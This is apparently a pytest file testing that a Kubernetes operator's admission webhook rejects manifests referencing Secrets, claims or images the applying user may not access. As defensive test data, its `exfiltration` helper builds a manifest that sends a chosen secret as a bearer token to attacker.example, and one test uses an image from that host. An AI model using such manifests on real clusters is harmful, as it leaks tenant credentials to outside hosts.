"""A tenant cannot make the operator use what they could not use themselves: the admission
webhook asks the API server (SubjectAccessReview) about every Secret, ConfigMap and claim a
FineTuneJob or ModelDeployment names, and about a custom image, for the user who applies it.

Two users of one namespace, by client certificate: ``dev`` may manage kubetune objects and read
one Secret (``shared-token``); ``lead`` may also read every Secret and create pods.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from admission_helpers import KUBETUNE_OBJECTS, TRAINER_IMAGE, Admission, User

from kubetune.testing import Cluster, pki
from kubetune.testing.kube import ApiException, Kube

Obj = dict[str, Any]
FTJ = "/apis/kubetune.io/v1alpha1/namespaces/{ns}/finetunejobs"
MDEP = "/apis/kubetune.io/v1alpha1/namespaces/{ns}/modeldeployments"
CORE = {"apiGroups": [""]}


def finetunejob(name: str, **spec: Any) -> Obj:
    body: Obj = {
        "baseModel": {"uri": "hf://org/model"},
        "dataset": {"uri": "https://data.example/train.jsonl", "format": "instruction"},
    }
    body.update(spec)
    return {
        "apiVersion": "kubetune.io/v1alpha1",
        "kind": "FineTuneJob",
        "metadata": {"name": name},
        "spec": body,
    }


def exfiltration(name: str, secret: str) -> Obj:
    """The issue's example: any secret, sent as a bearer token to any https host."""
    return finetunejob(
        name,
        dataset={"uri": "https://attacker.example/x.jsonl", "secretRef": {"name": secret, "key": "password"}},
    )


@pytest.fixture
def team(kube: Kube, namespace: str, users: Callable[[str, list[Obj]], User]) -> tuple[User, User]:
    for secret in ("db-creds", "shared-token"):
        kube.create(
            f"/api/v1/namespaces/{namespace}/secrets",
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "metadata": {"name": secret},
                "stringData": {"password": "x"},
            },
        )
    dev = users(
        "dev", [{**CORE, "resources": ["secrets"], "resourceNames": ["shared-token"], "verbs": ["get"]}]
    )
    lead = users(
        "lead",
        [
            {**CORE, "resources": ["secrets"], "verbs": ["get"]},
            {**CORE, "resources": ["pods"], "verbs": ["create"]},
        ],
    )
    return dev, lead


def refused(call: Callable[[], object]) -> str:
    with pytest.raises(ApiException) as exc:
        call()
    assert exc.value.status == 403, exc.value.body
    return str(exc.value.body)


def test_a_user_without_get_on_a_secret_cannot_reference_it(
    admission: Admission, namespace: str, team: tuple[User, User]
) -> None:
    dev, _ = team
    message = refused(lambda: dev.kube.create(FTJ.format(ns=namespace), exfiltration("steal", "db-creds")))
    assert f"spec.dataset.secretRef: dev may not get secrets/db-creds in namespace {namespace}" in message, (
        message
    )
    # kubectl apply shows the same line
    result = dev.kubectl(
        "apply", "-n", namespace, "-f", "-", input=yaml.safe_dump(exfiltration("steal", "db-creds"))
    )
    assert result.returncode != 0
    assert "denied the request" in result.stderr
    assert "spec.dataset.secretRef: dev may not get secrets/db-creds" in result.stderr, result.stderr


def test_a_user_with_get_on_the_secret_can_reference_it(
    admission: Admission, kube: Kube, namespace: str, team: tuple[User, User]
) -> None:
    dev, lead = team
    dev.kube.create(FTJ.format(ns=namespace), exfiltration("mine", "shared-token"))
    lead.kube.create(FTJ.format(ns=namespace), exfiltration("leads", "db-creds"))
    assert kube.get(FTJ.format(ns=namespace) + "/leads")["spec"]["dataset"]["secretRef"]["name"] == "db-creds"


def test_every_kind_of_reference_is_checked(
    admission: Admission, namespace: str, team: tuple[User, User]
) -> None:
    dev, _ = team
    job = finetunejob(
        "refs",
        baseModel={"uri": "pvc://models/llama", "secretRef": {"name": "hf"}},
        dataset={"uri": "configmap://data/train.jsonl", "validationUri": "pvc://evals/v.jsonl"},
        output={"secretRef": {"name": "registry"}},
        checkpointStorage={"claimName": "ckpt"},
    )
    message = refused(lambda: dev.kube.create(FTJ.format(ns=namespace), job))
    for line in (
        "spec.baseModel.uri: dev may not get persistentvolumeclaims/models",
        "spec.baseModel.secretRef: dev may not get secrets/hf",
        "spec.dataset.uri: dev may not get configmaps/data",
        "spec.dataset.validationUri: dev may not get persistentvolumeclaims/evals",
        "spec.output.secretRef: dev may not get secrets/registry",
        "spec.checkpointStorage.claimName: dev may not get persistentvolumeclaims/ckpt",
    ):
        assert line in message, message
    mdep = {
        "apiVersion": "kubetune.io/v1alpha1",
        "kind": "ModelDeployment",
        "metadata": {"name": "serve"},
        "spec": {"baseModel": {"uri": "hf://org/model", "secretRef": {"name": "db-creds"}}},
    }
    message = refused(lambda: dev.kube.create(MDEP.format(ns=namespace), mdep))
    assert "spec.baseModel.secretRef: dev may not get secrets/db-creds" in message, message


def test_a_custom_image_needs_create_pods(
    admission: Admission, namespace: str, team: tuple[User, User]
) -> None:
    dev, lead = team
    custom = finetunejob("custom", image="attacker.example/anything:1")
    message = refused(lambda: dev.kube.create(FTJ.format(ns=namespace), custom))
    assert f"spec.image: dev may not create pods in namespace {namespace}" in message, message
    dev.kube.create(FTJ.format(ns=namespace), finetunejob("default-image", image=TRAINER_IMAGE))
    lead.kube.create(FTJ.format(ns=namespace), custom)


def test_changing_a_spec_is_checked_but_metadata_patches_are_not(
    admission: Admission, kube: Kube, namespace: str, team: tuple[User, User]
) -> None:
    """The operator patches annotations and finalizers of objects whose Secrets it cannot read;
    a user who edits the spec of someone else's job must hold its references."""
    dev, lead = team
    path = FTJ.format(ns=namespace) + "/leads"
    lead.kube.create(FTJ.format(ns=namespace), exfiltration("leads", "db-creds"))
    dev.kube.patch(path, {"metadata": {"annotations": {"team.example/owner": "dev"}}})
    message = refused(lambda: dev.kube.patch(path, {"spec": {"suspend": True}}))
    assert "spec.dataset.secretRef: dev may not get secrets/db-creds" in message, message
    lead.kube.patch(path, {"spec": {"suspend": True}})


def test_rules_the_schema_cannot_express_are_refused_with_the_validate_message(
    admission: Admission, kube: Kube, namespace: str
) -> None:
    from kubetune.api import errors

    bad = finetunejob("gate", evaluation={"metrics": ["loss"], "gate": {"metric": "rougeL"}})
    (problem,) = errors.validate_manifest(bad)[1]
    message = refused(lambda: kube.create(FTJ.format(ns=namespace), bad))
    assert str(problem) in message, (problem, message)
    dup = {
        "apiVersion": "kubetune.io/v1alpha1",
        "kind": "ModelDeployment",
        "metadata": {"name": "dup"},
        "spec": {
            "baseModel": {"uri": "hf://org/model"},
            "adapters": [{"name": "a", "adapter": "x"}, {"name": "a", "adapter": "y"}],
            "rollout": {"analysis": {"interval": "60s", "window": "30s"}},
        },
    }
    message = refused(lambda: kube.create(MDEP.format(ns=namespace), dup))
    for problem in errors.validate_manifest(dup)[1]:
        assert str(problem) in message, (problem, message)


def test_a_gitops_service_account_passes_when_it_holds_the_rights(
    admission: Admission,
    cluster: Cluster,
    kube: Kube,
    namespace: str,
    team: tuple[User, User],
    tmp_path: Path,
) -> None:
    """A GitOps tool applies with its ServiceAccount's token: it is checked like anyone else."""
    kube.create(
        f"/api/v1/namespaces/{namespace}/serviceaccounts",
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "gitops"}},
    )
    sa_user = f"system:serviceaccount:{namespace}:gitops"
    kube.create(
        f"/apis/rbac.authorization.k8s.io/v1/namespaces/{namespace}/roles",
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "Role",
            "metadata": {"name": "gitops"},
            "rules": [
                KUBETUNE_OBJECTS,
                {**CORE, "resources": ["secrets"], "resourceNames": ["shared-token"], "verbs": ["get"]},
            ],
        },
    )
    kube.create(
        f"/apis/rbac.authorization.k8s.io/v1/namespaces/{namespace}/rolebindings",
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": {"name": "gitops"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "gitops"},
            "subjects": [{"kind": "ServiceAccount", "name": "gitops", "namespace": namespace}],
        },
    )
    token = kube.create(
        f"/api/v1/namespaces/{namespace}/serviceaccounts/gitops/token",
        {
            "apiVersion": "authentication.k8s.io/v1",
            "kind": "TokenRequest",
            "spec": {"expirationSeconds": 600},
        },
    )["status"]["token"]
    config = pki.kubeconfig(
        tmp_path / "gitops.kubeconfig",
        cluster.server,
        cluster.pki.ca_crt.read_bytes(),
        user="gitops",
        token=token,
    )
    gitops = Kube.from_kubeconfig(config)
    try:
        gitops.create(FTJ.format(ns=namespace), exfiltration("synced", "shared-token"))
        message = refused(lambda: gitops.create(FTJ.format(ns=namespace), exfiltration("stolen", "db-creds")))
        assert f"spec.dataset.secretRef: {sa_user} may not get secrets/db-creds" in message, message
    finally:
        gitops.close()
